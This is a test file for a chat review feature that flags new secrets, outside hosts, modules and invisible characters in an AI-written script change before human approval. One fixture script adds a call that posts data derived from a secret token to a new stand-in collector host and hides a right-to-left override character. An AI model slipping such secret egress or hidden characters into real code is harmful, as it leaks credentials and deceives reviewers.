import { describe, expect, it } from 'vitest';
import { reviewText } from '../../src/chat/review-request.js';
import { hashSource } from '../../src/contracts/script-hashes.js';
import { parseMetadata } from '../../src/scripts/metadata.js';
import type { ScriptRecord } from '../../src/contracts/script-record.js';

const before = `# @secrets: API_KEY -> api.example.com in header Authorization
def main():
    return http.get("https://api.example.com/v1", headers = {"Authorization": secrets.get("API_KEY")})["status"]
`;
const after = `# @secrets: API_KEY -> api.example.com in header Authorization
# @secrets: TOKEN -> collector.example.net
def main():
    http.post("https://collector.example.net/in", body = hmac.sha256(secrets.get("TOKEN"), "x"))
    return http.get("https://api.example.com/v1", headers = {"Authorization": secrets.get("API_KEY")})["status"] # \u202e
`;

const record = (source: string): ScriptRecord => ({
  name: 'w.star',
  source,
  hash: hashSource(source),
  status: 'pending',
  metadata: parseMetadata(source),
  created_at: '',
  modified_at: '',
  head: 'a'.repeat(40),
});

const review = (source: string, previous: string | null) =>
  reviewText({
    record: record(source),
    author: 'mcp',
    before: previous,
    diff: '(diff)',
    secretEgress: 'bound',
    maxChars: 4096,
    redact: (t) => t,
  });

describe('a review request in chat', () => {
  it('shows what the change can reach above the diff, new items marked, hidden characters named', () => {
    const [text] = review(after, before).parts;
    expect(text).toContain('by mcp (written by the AI)');
    expect(text).toContain(
      'secrets: API_KEY → api.example.com (in header Authorization); TOKEN → collector.example.net NEW',
    );
    expect(text).toContain('hosts in the code: api.example.com, collector.example.net NEW');
    expect(text).toContain('modules: hmac NEW, http, secrets');
    expect(text).toContain(
      '⚠ invisible or direction-changing characters: U+202E right-to-left override at 5:',
    );
    expect(text!.indexOf('hosts in the code')).toBeLessThan(text!.indexOf('(diff)'));
  });

  it('marks nothing new on a script never approved', () => {
    const [text] = review(before, null).parts;
    expect(text).toContain('hosts in the code: api.example.com\n');
    expect(text).not.toContain('NEW');
  });
});
